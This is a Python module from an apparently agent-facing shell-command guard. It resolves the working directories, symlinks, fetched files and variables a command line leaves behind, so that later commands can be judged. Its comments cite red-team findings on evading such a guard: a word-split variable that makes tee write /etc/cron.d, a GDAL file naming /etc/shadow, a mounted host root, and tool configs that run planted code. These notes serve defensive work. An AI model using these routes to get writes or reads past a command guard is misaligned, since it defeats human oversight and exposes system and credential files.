"""Line-level dataflow: the state one command of a line leaves for the next. Pure.

Walks a line's commands in order, carrying what a shell would have: the working directories
the command may run in (``cd``, ``pushd``, ``env -C``, ``git -C``/``--work-tree``, ``tar -C``,
``make -C``), the symlinks the line made (``ln -s``) and the paths its fetchers wrote (``git
clone``, ``curl -o``, ``wget``, extraction of a fetched archive, ``scp``/``rsync`` from a
remote). Each command comes back with *resolved variants*: the same command with its relative
paths (redirections, file operands, option values that name files) joined to each working
directory and its links followed, so the ordinary path rules and the catalogue judge where the
command really reads, writes or runs. Findings of its own are named in rules.py.

The directories are a set, never a single value: bashlex flattens ``&&``, ``||``, ``;`` and
subshells, so a ``cd`` is taken to *maybe* have happened for every later command (a command is
judged in each directory it may run in). Linear: each command is resolved against at most
``MAX_DIRS`` directories.
"""

from __future__ import annotations

import fnmatch
import posixpath
import re
import urllib.parse
from collections.abc import Sequence
from dataclasses import dataclass, field, replace

from . import cloud
from . import git as gitopts
from .budget import check
from .clobber import LN_FORCE
from .grep import SEARCHERS, searched_trees
from .options import option_at, parse_opts
from .parse import LISTED_GLOB, PYTHON_NAME, Redirect, SimpleCommand
from .pidfile import pidfile
from .remote_exec import LAUNCHERS, launch, subcommand
from .rules import (
    AUTH_FILES,
    CODE_FILE,
    HISTORY_FILES,
    STARTUP_FILES,
    build_artifacts_only,
    is_system_path,
    norm,
)
from .secret_paths import maybe_secret_path
from .sed import shown_edit
from .site_program import BIN_DIRS, script_of

#: the working directory the line started in (the agent's working tree, wherever that is)
START = ""
#: a directory the guard cannot compute (``cd "$X"``, ``cd -``, too many possibilities)
UNKNOWN = "\x00?"
#: a written tree that contains every path (the session memory overflowed, or an earlier
#: line wrote relative to a directory the guard could not compute): fail closed
ANYWHERE = "\x00*"
MAX_DIRS = 4
#: what a line leaves for later lines besides the trees it wrote, as a prefix of the path
#: (the memory keeps paths, guard/memory.py): a forced link's target and name, which a service
#: may run from (a release switch: what is written there later goes live) ...
LIVE = "live:"
#: ... and a tree filled from content that may carry symlinks (a clone, an unpacked archive,
#: a recursive copy from elsewhere): a later write below it may land where a link points
PLANTED = "links:"
#: world-writable scratch space: anything may have been put there, by anyone
SCRATCH = ("/tmp", "/var/tmp", "/dev/shm", "/run/shm", "/run/user")
#: the devices a write goes nowhere through, or to the session's own streams
DISCARDS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/fd/1", "/dev/fd/2",
                      "/dev/tty", "/proc/self/fd/1", "/proc/self/fd/2"})
#: where deploys keep their trees: a download there is a release archive (safe.py's
#: extract_dir_ok unpacks into them). Not /mnt: a host's or image's root is mounted there
#: (red team s15 A6: /mnt/host/etc/cron.d)
DEPLOY_ROOTS = ("/srv/", "/opt/", "/data/")
_RELEASE_ARCHIVE = re.compile(r"\.(tgz|tar|tar\.(gz|xz|bz2|zst)|zip|jar|war|whl|deb|rpm)$")

#: tools whose operands are files (``all``) or files after a program/pattern/mode
#: (``after-first``, unless the program comes by -e/-f)
FILE_TOOLS: dict[str, str] = {
    **dict.fromkeys((
        "cat", "head", "tail", "less", "more", "tac", "nl", "wc", "stat", "ls", "ll", "du",
        "file", "md5sum", "sha1sum", "sha256sum", "sha512sum", "b2sum", "cksum", "strings",
        "od", "xxd", "hexdump", "base64", "base32", "diff", "cmp", "cp", "mv", "ln", "rm",
        "unlink", "rmdir", "mkdir", "touch", "tee", "truncate", "shred", "install", "zcat",
        "bzcat", "xzcat", "gzip", "gunzip", "bzip2", "xz", "zip", "unzip", "realpath",
        "readlink", "namei", "lsattr", "getfacl", "setfacl", "chattr", "source", ".", "sort",
        "uniq", "cut", "paste", "join", "column", "tree", "rsync", "scp", "vi", "vim", "nvim",
        "nano", "emacs", "ed", "ex", "dd", "split", "csplit", "fold", "fmt", "expand",
        "unexpand", "rev", "shuf", "iconv", "dos2unix", "unix2dos", "patch", "7z",
        "gpg", "cpio", "pv", "sponge", "lsof", "fuser", "crontab", "sed", "awk",
        "gawk", "mawk", "grep", "egrep", "fgrep", "zgrep", "rg", "ag", "jq", "yq", "chmod",
        "chown", "chgrp", "chcon", "bat", "batcat", "shasum", "csvcut", "csvstat", "csvlook",
        "in2csv", "csvgrep", "csvsort", "csvjson", "h5ls", "h5dump"), "all"),
    "parquet-tools": "after-first",
    # the database file; the words after it are SQL and dot-commands (``.tables``), never
    # files of the working directory (session 12)
    "sqlite3": "first",
    **dict.fromkeys(("sed", "awk", "gawk", "mawk", "grep", "egrep", "fgrep", "zgrep", "rg",
                     "ag", "jq", "yq", "chmod", "chown", "chgrp", "chcon"), "after-first"),
    "find": "roots", "tar": "tar", "bsdtar": "tar",
}
#: long options whose value is a file or directory, across tools (``--x=V`` or ``--x V``)
PATH_LONG = frozenset({
    "--output", "--output-document", "--directory-prefix", "--target-directory",
    "--upload-file", "--file", "--directory", "--files-from", "--exclude-from", "--work-tree",
    "--git-dir", "--chdir", "--prefix", "--manifest-path", "--project-directory",
    "--env-file", "--reference", "--config", "--filename", "--kustomize", "--values",
    "--dest", "--requirement", "--rcfile", "--init-file", "--cwd", "-chdir"})
#: a tool whose option of that name takes no path: snakemake --config KEY=VALUE (its check
#: keeps VALUE a plain word, tools/site_ops.py)
_NOT_PATH_LONG = frozenset({("snakemake", "--config")})
#: per tool, short options whose next word is a file or directory
PATH_SHORT: dict[str, frozenset[str]] = {k: frozenset(v.split()) for k, v in {
    "sort": "-o", "tar": "-f -C -T -X", "bsdtar": "-f -C", "unzip": "-d", "curl": "-o -T -K",
    "wget": "-O -P -i", "ssh-keygen": "-f", "cp": "-t", "mv": "-t", "ln": "-t",
    "install": "-t", "git": "-C", "make": "-C -f", "gmake": "-C -f", "openssl": "-in -out",
    "gpg": "-o", "7z": "-o", "pip": "-d -r -t", "pip3": "-d -r -t", "kubectl": "-f -k",
    "helm": "-f", "docker": "-f", "grep": "-f", "egrep": "-f", "fgrep": "-f", "sed": "-f",
    "awk": "-f", "gawk": "-f", "jq": "-f", "tee": "", "env": "-C", "sudo": "-D",
    "tox": "-c", "pytest": "-c", "go": "-C", "npm": "-C", "pnpm": "-C", "gradle": "-p -b",
    "crontab": "", "split": "", "patch": "-i -o", "dd": "", "ansible": "-i",
    "ansible-playbook": "-i", "ansible-inventory": "-i", "oc": "-f -k"}.items()}
#: per tool, short options whose next word is a value that is not a path (a count, a field,
#: a delimiter): never joined to a cd's directory as a file (``cd x && grep -A 20 y f``)
VALUE_SHORT: dict[str, frozenset[str]] = {k: frozenset(v.split()) for k, v in {
    **dict.fromkeys(("grep", "egrep", "fgrep", "zgrep", "rg"), "-A -B -C -m"),
    "head": "-n -c", "tail": "-n -c", "cut": "-d -f -c -b", "sort": "-k -t -S",
    "uniq": "-f -s -w", "diff": "-U -C", "column": "-s -t -c", "nl": "-w -s -v -i",
    "fold": "-w", "fmt": "-w", "split": "-l -b -n -a", "shuf": "-n", "xxd": "-l -s -c -g",
    "od": "-N -j -w -t -A", "hexdump": "-n -s"}.items()}
#: programs that run code they find in their directory (Makefile, package.json scripts,
#: conftest.py, tox.ini, build.rs, *.tf providers and data sources, Dockerfile, hooks...):
#: name -> the subcommands that do (empty: every use)
CODE_RUNNERS: dict[str, frozenset[str]] = {
    # linters and formatters that load plugins or run hooks their configuration in the tree
    # names (pylint's init-hook, flake8's local-plugins, mypy's plugins, coverage's plugins,
    # a Gemfile is Ruby, eslint/prettier/stylelint configs are JavaScript, rubocop require:,
    # golangci-lint plugins, a build backend uv and poetry run to read a project)
    **dict.fromkeys(("coverage", "stylelint", "rubocop", "standardrb", "golangci-lint", "uv",
                     "poetry", "bundle", "vite", "webpack", "rollup", "nx", "turbo", "lerna",
                     "playwright", "cypress", "vitest", "markdownlint-cli2", "tsx", "next"),
                    frozenset()),
    **dict.fromkeys(("make", "gmake", "pytest", "py.test", "tox", "nox", "mvn", "mvnw",
                     "gradle", "gradlew", "pre-commit", "ansible-playbook", "ansible",
                     "ansible-inventory", "gcc", "g++", "cc", "c++", "clang", "clang++",
                     "cmake", "ctest", "ninja", "meson", "bazel", "bazelisk", "just", "task",
                     "rake",
                     "invoke", "fab", "vagrant", "./gradlew", "./mvnw", "sbt", "ant",
                     "tsc", "webpack", "vite", "jest", "mocha", "phpunit", "rspec", "vitest"),
                    frozenset()),
    # HPC and pipelines: a job script of the tree (run later on a compute node), a
    # Snakefile (Python, evaluated by every use), a Nextflow pipeline and its configuration
    # (Groovy) (tools/site_ops.py)
    "sbatch": frozenset(), "snakemake": frozenset(), "nextflow": frozenset({"run", "config"}),
    "npm": frozenset({"run", "run-script", "test", "t", "start", "install", "i", "ci",
                      "rebuild", "exec", "x", "restart", "stop", "pack", "publish", "build"}),
    # (and Hadoop's words tools/data.py gives yarn: the JavaScript yarn runs a package
    # script of that name)
    # (red team s15 C1) every use: .yarnrc's yarn-path runs a file of the tree for any
    # command, composer.json's pre-command-run and init scripts run for any verb,
    # rust-toolchain.toml's path runs the tree's cargo, MSBuild targets run for any dotnet
    # verb that loads the project; clang's tools read compile_flags.txt and .clang-tidy
    "yarn": frozenset(), "composer": frozenset(), "cargo": frozenset(), "rustc": frozenset(),
    "rustup": frozenset(), "dotnet": frozenset(), "clang-tidy": frozenset(),
    "clangd": frozenset(), "cppcheck": frozenset(),
    # (session 16) pnpm's configuration loader requires the tree's .pnpmfile.cjs/.mjs for
    # every command that reads the configuration (list, why, audit, outdated too)
    "pnpm": frozenset(),
    "npx": frozenset(), "bun": frozenset(), "deno": frozenset({"task", "run", "test"}),
    "go": frozenset({"build", "test", "run", "generate", "vet", "install"}),
    "terraform": frozenset({"plan", "apply", "init", "validate", "refresh", "import",
                            "console", "destroy", "test"}),
    "tofu": frozenset({"plan", "apply", "init", "validate", "refresh", "import", "console"}),
    "terragrunt": frozenset(),
    "docker": frozenset({"build", "buildx", "compose"}),
    "podman": frozenset({"build", "compose"}), "docker-compose": frozenset({"build", "up", "run"}),
    "pip": frozenset({"install", "wheel", "download"}), "pip3": frozenset({"install", "wheel"}),
    "python": frozenset({"-m", "-c", "setup.py", "manage.py"}),
    "python3": frozenset({"-m", "-c", "setup.py", "manage.py"}),
    # any bundle command evaluates the Gemfile (Ruby) (red team s10b)
    "bundle": frozenset(), "gem": frozenset({"build"}),
    "kubectl": frozenset({"apply", "create", "replace", "kustomize"}),
    "helm": frozenset({"install", "upgrade", "template"}),
    "git": frozenset({"commit", "merge", "pull", "push", "checkout", "switch", "rebase", "am",
                      "cherry-pick", "revert", "rm", "mv", "reset", "stash", "apply",
                      "bisect", "worktree"}),
    # project managers and documentation builds (the tree's build backend, conf.py, hooks)
    # reading a project may build it: pyproject.toml's build backend (red team s10b)
    "poetry": frozenset(), "uv": frozenset(),
    "sphinx-build": frozenset(), "mkdocs": frozenset({"build", "serve"}),
    "golangci-lint": frozenset({"run"}),
    # data and language tool chains: nbconvert loads jupyter_nbconvert_config.py from its
    # directory; alembic imports env.py and the revision files for every command; mix.exs,
    # Package.swift, *.csproj (MSBuild targets), composer.json scripts and dvc.yaml stages run
    "jupyter": frozenset({"nbconvert", "execute", "run"}), "alembic": frozenset(),
    "mix": frozenset(), "swift": frozenset({"build", "test", "run", "package"}),
    "dvc": frozenset({"repro", "exp", "run"}),
    # the tree's application (site_program.APP_RUNNERS)
    **dict.fromkeys(("uvicorn", "gunicorn", "hypercorn", "daphne", "waitress-serve", "flask",
                     "rails", "streamlit", "hugo", "jekyll"), frozenset()),
    # the site's pipelines (session 11): dbt parses the project's Jinja, macros and Python
    # models for every command; airflow imports the DAG files; papermill and Great
    # Expectations run notebooks and checkpoints; TensorBoard and the MLflow UI serve files
    # that configuration in their tree names (a projector config, a run's artifact_uri)
    **dict.fromkeys(("dbt", "airflow", "papermill", "great_expectations", "gx",
                     "tensorboard", "torchrun", "deepspeed", "spark-submit"), frozenset()),
    # (session 12) celery -A imports the app's module from the tree; sqlfluff's Jinja
    # templater imports the macros of its library_path
    "celery": frozenset(), "sqlfluff": frozenset(),
    "accelerate": frozenset({"launch"}),
    "mlflow": frozenset({"ui"}),
    # infrastructure as code runs the tree's program (cdk.json's app, Pulumi's program, SAM's
    # builders and Makefiles); a lambda's code from the tree goes live
    "cdk": frozenset(), "pulumi": frozenset({"preview", "up", "refresh", "destroy", "import",
                                             "watch", "about"}),
    "sam": frozenset({"build", "validate", "deploy", "local", "sync", "package"}),
    "aws": frozenset({"lambda update-function-code"}),
    # trivy reads trivy.yaml from where it runs (a server to send results to, an output, a
    # template, modules): a tree the session wrote configures it
    "trivy": frozenset(),
    # infrastructure tools (session 12): ansible-lint and ansible-doc import rules and plugins
    # the tree's configuration names; .checkov.yaml names Python checks; packer starts the
    # plugins its template names; knife loads .chef/config.rb (Ruby)
    "ansible-lint": frozenset(), "ansible-doc": frozenset(),
    "checkov": frozenset(), "packer": frozenset(), "knife": frozenset(),
    "terraform-docs": frozenset(), "helmfile": frozenset(),
    # build, test and lint tools of tools/build.py: each reads its project files as code
    # (build.zig and Setup.hs are programs, *.cabal custom setups, rebar.config.script,
    # buf.yaml's and pyrightconfig.json's plugins and interpreters, the scripts pyproject.toml,
    # hatch.toml and Pipfile define for ``run``)
    **dict.fromkeys(("go-task", "rebar3", "stack", "cabal", "zig", "buf", "pyright",
                     "basedpyright", "pdm", "hatch", "pipenv"), frozenset()),
    # tools/langs.py: dune files, project.clj, deps.edn aliases, a Julia or R package's
    # tests, the Fastfile, clj-kondo's hooks, the packages govulncheck loads (cgo)
    **dict.fromkeys(("dune", "lein", "clojure", "clj", "julia", "Rscript", "fastlane",
                     "clj-kondo", "govulncheck"), frozenset()),
    # tools/media.py: a flake and every .nix file it imports are evaluated by these verbs
    "nix": frozenset({"build", "flake", "path-info"}),
}
#: git subcommands that change files of the work tree, or make one
#: files a runner reads as code that no general name table can hold (writing them is ordinary
#: elsewhere): pytest collects doctests from ``test*.txt`` by default (red team s10)
RUNNER_FILES: dict[str, re.Pattern[str]] = {
    # a crate's README runs as doctests (``#![doc = include_str!("../README.md")]``), and
    # mkdocs' markdown-exec runs a page's fences: markdown is their code (red team s14 H9)
    **{n: re.compile(r"\.(md|markdown|mdown|mkdn|mkd|rst|ipynb)$") for n in (
        "cargo", "mkdocs", "sphinx-build")},
    # pytest's doctest glob (tox and nox run pytest), and markdown a docs build or a
    # configured doctest glob runs (round four F7, ``make docs`` after a download into docs/)
    **dict.fromkeys(("pytest", "py.test", "tox", "nox"),
                    re.compile(r"(^|/)test[^/]*\.txt$|\.(md|markdown|rst)$")),
    # the dependency files a Makefile's -include reads (make syntax: recipes), and the pages
    # a docs target builds
    **{n: re.compile(r"\.(d|dep|depend|inc|md|markdown|mdown|mkdn|mkd|rst|ipynb)$") for n in (
        "make", "gmake")},
    # TensorBoard's projector serves the files its config names (any path)
    "tensorboard": re.compile(r"(^|/)projector_config\.pbtxt$"),
    # notebooks are code to what runs them (and only to that: a notebook the agent wrote or
    # an executed copy holds no make or pytest after it)
    **{n: re.compile(r"\.ipynb$") for n in ("papermill", "jupyter")}}
#: (red team s15 B4) tools that choose a decoder by a file's content, not its name: a file
#: the session wrote under a data name may be a GDAL VRT naming another file
#: (``CSV:/etc/shadow``), an SVG or MVG for ImageMagick, an ffmpeg concat or HLS list.
#: What the session wrote or fetched is their configuration, held as any other's
CONTENT_SNIFFERS = frozenset({
    "ogr2ogr", "ogrinfo", "gdalinfo", "gdal_translate", "gdalwarp", "gdalsrsinfo",
    "convert", "magick", "identify", "ffmpeg", "ffprobe", "mediainfo", "exiftool",
    # and readers of a directory's fixed files, any of which may be a link (red team s15 C4)
    "pg_controldata"})


#: tools that read every file of a directory they are given as configuration
_DIR_CONFIG_READERS = frozenset({"ansible", "ansible-playbook", "ansible-inventory", "kubectl",
                                 "oc", "helm", "kustomize", "terraform", "tofu"})


def _written_below(d: str, state: _State) -> str | None:
    """A tree this line or an earlier one wrote below directory ``d``, or None."""
    top = d.rstrip("/") + "/"
    return next((r for r in [*state.fetched, *state.earlier] if r.startswith(top)), None)


def runs_as_code(p: str) -> bool:
    """(red team s15 B2) Some tool loads ``p`` as code by its name: a code or build file, or
    a file a runner reads by convention (a test glob, markdown a docs build runs)."""
    return bool(CODE_FILE.search(p)) or any(r.search(p) for r in RUNNER_FILES.values())


#: runners that collect code from the subdirectories of where they run (test discovery,
#: packages, source trees, roles, modules), not only from files they are named: a tree of
#: unknown content below them runs (make runs its own Makefile; git, docker, helm, kubectl
#: read what they are given)
WALKING_RUNNERS = frozenset({"pytest", "py.test", "tox", "nox", "npm", "yarn", "pnpm", "npx",
                             "go", "cargo", "mvn", "mvnw", "./mvnw", "gradle", "gradlew",
                             "./gradlew", "ansible-playbook", "terraform", "tofu",
                             "terragrunt", "python", "python3", "jest", "mocha", "vite",
                             "webpack", "tsc", "deno", "bun", "rspec", "phpunit", "sbt",
                             "vitest", "mkdocs", "sphinx-build", "cmake", "bazel",
                             "bazelisk", "meson", "zig", "cabal", "stack", "rebar3",
                             "hatch", "rake", "dotnet", "msbuild", "phpstan", "psalm",
                             "phpcs", "dune", "lein", "clojure", "clj", "julia",
                             "Rscript", "nix"})
#: walking runners whose conventions for the files they load are open-ended (plugins, presets,
#: snapshots, task and response files): after a write below them of anything but data, held
OPEN_WALKERS = frozenset({"npm", "yarn", "pnpm", "npx", "jest", "vitest", "mocha", "bun",
                          "deno", "rake", "dotnet", "msbuild", "phpstan", "psalm", "phpcs",
                          "cabal", "stack", "phpunit"})
#: linters and formatters that load code named by their configuration in the tree (eslint's
#: and prettier's config files are JavaScript; mypy plugins, flake8 local plugins, pylint's
#: init-hook and load-plugins are Python): their config files, once this scope wrote one,
#: make the tool a runner. Linting a file the agent wrote stays ordinary (red team s10)
LINTER_CONFIGS: dict[str, re.Pattern[str]] = {
    **dict.fromkeys(("eslint", "prettier", "stylelint"), re.compile(
        r"(^|/)((eslint|prettier|stylelint)\.config\.[a-z]+|\.(eslintrc|prettierrc|"
        r"stylelintrc)([.][a-z]+)?|package\.json)$")),
    **dict.fromkeys(("mypy", "flake8", "pylint", "pydocstyle", "pycodestyle"), re.compile(
        r"(^|/)(mypy\.ini|\.mypy\.ini|setup\.cfg|tox\.ini|\.flake8|pyproject\.toml|"
        r"\.?pylintrc(\.toml)?)$")),
    # Miller reads ./.mlrrc: main flags, --load of DSL files a put/filter then runs
    # (system()) (session 12)
    "mlr": re.compile(r"(^|/)\.mlrrc$"),
    # hlint reads its arguments from .hlint.yaml (--refactor --with-refactor=PROG) and -h
    # files (red team s15 B5)
    "hlint": re.compile(r"(^|/)(\.?hlint\.ya?ml|HLint\.hs)$"),
}
#: git subcommands that print what files held (their past content, a secret's too)
_GIT_SHOWS = frozenset({"log", "show", "diff", "grep", "blame", "cat-file", "whatchanged",
                        "reflog", "format-patch", "archive", "shortlog", "annotate"})
_GIT_WRITES = frozenset({"init", "mv", "rm", "checkout", "switch", "restore", "reset", "stash",
                         "apply", "am", "merge", "pull", "rebase", "cherry-pick", "revert",
                         "clean", "clone", "worktree", "read-tree", "checkout-index",
                         "sparse-checkout", "submodule"})
#: git subcommands whose operands are paths (pathspecs, patches, directories): not those
#: whose operands are remotes, refs, commits or sub-subcommands (``pull origin main``,
#: ``merge origin/main``, ``stash pop``), which a ``cd`` before them must not turn into paths
_GIT_PATHSPECS = (_GIT_WRITES - {"pull", "merge", "rebase", "cherry-pick", "revert", "stash",
                                 "switch"}) | {
    "add", "diff", "show", "log", "blame", "grep"}
_GIT_VALUES = ("-C", "-c", "--git-dir", "--work-tree", "--namespace", "--exec-path",
               "--super-prefix", "--config-env")
_URLISH = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*+://|^[^/\s]++@[^/\s:]++:")


@dataclass(frozen=True, slots=True)
class FlowFinding:
    rule: str
    paths: tuple[str, ...] = ()
    why: str = ""


@dataclass(slots=True)
class Step:
    """What the walk knows about one command: its resolved variants (empty when it runs only
    in the starting directory and names no link), why its paths cannot be resolved (a cd to
    a computed directory), and findings of the flow itself."""

    variants: list[tuple[str, SimpleCommand]] = field(default_factory=list)
    #: the command may run where the line started (else every place it runs is a variant)
    in_start: bool = True
    #: every computed word of the command took the line's own values (``for f in *.log``):
    #: the variants are the command, the text as written is not judged
    substituted: bool = False
    unresolved: str = ""
    findings: list[FlowFinding] = field(default_factory=list)


@dataclass(frozen=True, slots=True)
class Flow:
    """The walk of one line: a :class:`Step` per command, the paths and trees the line writes
    or fetches into (spelled relative to the start directory, or absolute), and the
    directories the shell may be in when it ends (START: where it began)."""

    steps: list[Step]
    writes: tuple[str, ...] = ()
    ends_in: tuple[str, ...] = (START,)
    #: of ``writes``, the files the line edits with content it shows or a command of it
    #: prints (a redirection, tee, sed -i, yq -i, sort -o, dd of=): not copies, downloads,
    #: archives or what a program writes by name (classify.py: ``code.write``)
    edits: tuple[str, ...] = ()


@dataclass(slots=True)
class _State:
    dirs: list[str] = field(default_factory=lambda: [START])
    links: dict[str, str] = field(default_factory=dict)
    fetched: list[str] = field(default_factory=list)
    #: trees filled from content that may carry symlinks (an archive, a clone)
    planted: list[str] = field(default_factory=list)
    #: trees earlier lines of the scope wrote: root -> that line (looked up by ancestor, so
    #: a long memory costs a few dict look-ups per path, not a scan)
    earlier: dict[str, str] = field(default_factory=dict)
    #: live paths (LIVE) earlier lines made -> that line, and this line's
    live: dict[str, str] = field(default_factory=dict)
    live_here: list[str] = field(default_factory=list)
    #: trees earlier lines planted (PLANTED) -> that line
    sown: dict[str, str] = field(default_factory=dict)
    #: shell variables the line set (``X=/etc``, ``for f in a b``): name -> values
    vars: dict[str, list[str]] = field(default_factory=dict)
    #: files this line edited (Flow.edits), and what it wrote otherwise
    edited: list[str] = field(default_factory=list)
    unedited: list[str] = field(default_factory=list)

    def written(self) -> bool:
        return bool(self.fetched or self.earlier)

    def root_of(self, p: str) -> str | None:
        """The tree this line or an earlier one wrote that ``p`` is in, or None."""
        return _root_of(p, self.fetched, self.earlier)


_ASSIGN = re.compile(r"\A([A-Za-z_][A-Za-z0-9_]*+)=(.*+)", re.S)
#: values of one variable tried per command
MAX_VALUES = 16
#: commands tried per command (the values of all its variables together)
MAX_COMBINATIONS = 64


def _unquote_value(v: str) -> str:
    if len(v) >= 2 and v[0] == v[-1] and v[0] in "'\"":
        return v[1:-1]
    return v


#: a value that is one command substitution, quoted or not
_LISTING = re.compile(r'"?+\$\(([^()`$]*+)\)"?+')


def _record_vars(c: SimpleCommand, state: _State, settled: bool = True) -> None:
    """What ``c`` leaves in the line's variables. ``settled``: ``c`` runs, in this shell, when
    the line gets past it (not after ``&&``/``||``, not in a pipeline, a subshell, a loop or
    a branch): otherwise a variable it sets may keep the value it had before the line, which
    the guard does not know (red team s11)."""
    for name in _assigned_names(c):
        state.vars[name] = []
    if not settled or (c.argv and c.name not in _SETS_VARS):
        # ``x=a cmd`` sets x for cmd only: the shell's x is what it was (unknown)
        return
    if c.name == "unset":
        for a in c.args:
            if a[:1] != "-" and _NAME.fullmatch(a) and "-f" not in c.args:
                state.vars[a] = [""]
        return
    words = list(c.assignments)
    if c.name in ("export", "declare", "typeset", "readonly"):
        words += [a for a in c.args if "=" in a and not a.startswith("-")]
    for w in words:
        m = _ASSIGN.fullmatch(w)
        if m:
            # an assignment expands ~+ ~- ~N at its start and after each ':' (run-time dirs)
            listed = _LISTING.fullmatch(m.group(2))
            if listed and LISTED_GLOB.fullmatch(listed.group(1)):
                # f=$(ls -t migrations/*.php | head -1): some of the glob's names
                state.vars[m.group(1)] = [LISTED_GLOB.fullmatch(listed.group(1)).group(1)]
                continue
            state.vars[m.group(1)] = [] if _VALUE_DIR_TILDE.search(m.group(2)) else \
                [_unquote_value(m.group(2))]


def _assigned_names(c: SimpleCommand) -> set[str]:
    """Every variable ``c`` may set or change, however (``x=``, ``x+=``, ``x[0]=``, ``x=(...)``,
    read, mapfile, ``printf -v``, unset, declare...)."""
    out = {m.group(1) for w in c.assignments if (m := _ANY_ASSIGN.match(w))}
    if c.name in _SETS_VARS:
        out |= {m.group(1) for a in c.args if (m := _ANY_ASSIGN.match(a)) or (
            (m := _NAME.fullmatch(a)) and c.name not in ("export",))}
    return out


_NAME = re.compile(r"([A-Za-z_][A-Za-z0-9_]*+)")
_ANY_ASSIGN = re.compile(r"\A([A-Za-z_][A-Za-z0-9_]*+)(?:\[[^\]]*+\])?+\+?=")
#: builtins that set, change or remove shell variables (their name operands)
_SETS_VARS = frozenset({"read", "mapfile", "readarray", "getopts", "export", "declare",
                        "typeset", "local", "readonly", "unset", "printf", "let", "wait"})


def _settled(line: str, commands: tuple[SimpleCommand, ...], span: tuple[int, int]) -> bool:
    """Does what lies at ``span`` run in this shell whenever the line gets past it: only
    ``;`` or a newline before it (back to the command before), and ``;``, a newline, ``&&``,
    ``||`` or the end after it (not a pipe, ``&``, a subshell, a branch, a loop)?"""
    if not line:
        return True
    before = max((c.span[1] for c in commands if c.span[1] <= span[0]), default=0)
    after = min((c.span[0] for c in commands if c.span[0] >= span[1]), default=len(line))
    return _BEFORE_SETTLED.fullmatch(line, before, span[0]) is not None and \
        _AFTER_SETTLED.match(line, span[1], max(after, span[1])) is not None


_BEFORE_SETTLED = re.compile(r"[\s;]*+")
_AFTER_SETTLED = re.compile(r"[ \t]*+(?:;(?!;)|\n|&&|\|\||\Z)")


_VALUE_DIR_TILDE = re.compile(r"(?:^|:)~(?:[+-]\d*|\d+)(?=/|:|$)")
#: builtins that set variables to values the line does not show
_READS_VARS = frozenset({"read", "mapfile", "readarray", "getopts"})
_COMPUTED = re.compile(r"[$`]")
#: a value bash's splitting and globbing leave as one word, the same word
_PLAIN_VALUE = re.compile(r"[^\s*?\[\]{}\\$`'\"]++")


#: a value bash puts into a word as it is (no quote, expansion, brace, blank or escape to
#: re-read, not an option): a loop's ``unit integration``, ``tests/test_*.py`` (a glob a
#: for-loop expanded into file names: the word counts as globbed, rewritten_globs)
_LITERAL_VALUE = re.compile(r"[A-Za-z0-9_./:@%+=,*?][A-Za-z0-9_./:@%+=,*?-]*+")


#: ``$NAME`` and ``${NAME}``: a reference that is the variable's value and nothing else
_PLAIN_REF = re.compile(r"\$(?:([A-Za-z_][A-Za-z0-9_]*+)(?![A-Za-z0-9_])|"
                        r"\{([A-Za-z_][A-Za-z0-9_]*+)\})")
_NOT_PLAIN = re.compile(r"[$`{}]")
#: what bash's default IFS splits an unquoted expansion at
_BLANK = re.compile(r"[ \t\n]")


def _literal_positions(c: SimpleCommand, state: _State) -> set[int]:
    """Computed words of any command (not only paths) whose every variable holds literal
    values only: ``pytest -q tests/$t`` in ``for t in unit integration``. A word is the same
    text whichever way bash expands it there, so it is judged with each value in place."""
    out: set[int] = set()
    for i, w in enumerate(c.argv):
        if not i or i >= len(c.dynamic) or not c.dynamic[i] or "$" not in w or "`" in w:
            continue
        refs = [m.group(1) or m.group(2) for m in _PLAIN_REF.finditer(w)]
        # only ``$NAME`` and ``${NAME}``: ``${t/unit//tmp}``, ``${t:-x}`` compute another word
        if refs and all(state.vars.get(n) and all(_LITERAL_VALUE.fullmatch(v) for v in
                                                  state.vars[n]) for n in refs) and \
                not _NOT_PLAIN.search(_PLAIN_REF.sub("", w)):
            out.add(i)
    return out


def _substituted(c: SimpleCommand, state: _State) -> list[SimpleCommand]:
    """``c`` with the line's variables put in its path words (one command per value, at
    most MAX_VALUES); a word left without an expansion is no longer computed."""
    # any other computed word whose every name has only plain values (``for svc in nginx
    # app; do systemctl is-active $svc``): bash gives it exactly that one word, split or not
    plain = {i for i in range(1, len(c.argv)) if i < len(c.dynamic) and c.dynamic[i] and
             _PLAIN_REF.search(c.argv[i]) and all(
                 state.vars.get(m.group(1) or m.group(2)) and all(
                     _PLAIN_VALUE.fullmatch(v) for v in state.vars[m.group(1) or m.group(2)])
                 for m in _PLAIN_REF.finditer(c.argv[i]))}
    # a word with any other expansion (``${f/a/b}``, ``${f:-x}``, ``$(...)``) is not the
    # variable's value: left computed
    positions = {i for i in _path_positions(c) | plain | _literal_positions(c, state)
                 if not _NOT_PLAIN.search(_PLAIN_REF.sub("", c.argv[i]))}
    names = {m.group(1) or m.group(2) for i in positions
             for m in _PLAIN_REF.finditer(c.argv[i])}
    names |= {m.group(1) or m.group(2) for r in c.redirects
              if not _NOT_PLAIN.search(_PLAIN_REF.sub("", r.target))
              for m in _PLAIN_REF.finditer(r.target)}
    names = {n for n in names if state.vars.get(n)}
    if not names:
        return []
    out = [c]
    for name in sorted(names):
        nxt = []
        for cur in out:
            for value in state.vars[name]:
                def put(w: str, value: str = value, name: str = name) -> str:
                    if _NOT_PLAIN.search(_PLAIN_REF.sub("", w)):
                        return w
                    return _PLAIN_REF.sub(lambda m: value if (m.group(1) or m.group(2)) ==
                                          name else m.group(0), w)
                # an unquoted expansion of a value with a blank is split into several words
                # (``f="x /etc/cron.d/x"; tee $f`` writes /etc/cron.d/x): such a word stays
                # computed, never one word with the value in it (red team s13)
                argv = tuple(put(w) if i in positions and not (
                    _BLANK.search(value) and (i >= len(cur.split) or cur.split[i]))
                    else w for i, w in enumerate(cur.argv))
                redirects = tuple(Redirect(r.op, put(r.target), r.dynamic and bool(
                    _COMPUTED.search(put(r.target)))) for r in cur.redirects)
                dyn = tuple(d and (i not in positions or bool(_COMPUTED.search(argv[i])))
                            for i, d in enumerate(cur.dynamic))
                split = tuple(s and (i not in plain or bool(_COMPUTED.search(argv[i])))
                              for i, s in enumerate(cur.split))
                # a value may be a glob bash expanded where it was set (``for f in /etc/*``)
                nxt.append(replace(cur, argv=argv, redirects=redirects, dynamic=dyn,
                                   split=split, globbed=rewritten_globs(cur, argv)))
        if len(nxt) > MAX_COMBINATIONS:
            return []  # too many to try: the words stay computed (every one is judged or none)
        out = nxt
    return out


def join(base: str, path: str) -> str:
    """``path`` as seen from directory ``base`` (START: unchanged; relative stays relative).
